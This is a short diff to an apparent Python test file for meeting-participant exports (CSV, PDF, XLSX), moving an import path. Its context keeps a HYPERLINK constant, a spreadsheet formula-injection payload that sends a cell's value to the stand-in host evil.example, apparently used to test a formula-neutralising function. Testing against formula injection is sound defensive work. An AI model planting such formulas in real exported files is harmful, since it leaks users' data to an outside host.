@@ -10,7 +10,14 @@ import openpyxl
 import pypdfium2 as pdfium
 import pytest
 
-from meetings.exports import Table, TableGroup, neutralise_formula, to_csv, to_pdf, to_xlsx
+from meetings.registration.participants.exports import (
+    Table,
+    TableGroup,
+    neutralise_formula,
+    to_csv,
+    to_pdf,
+    to_xlsx,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
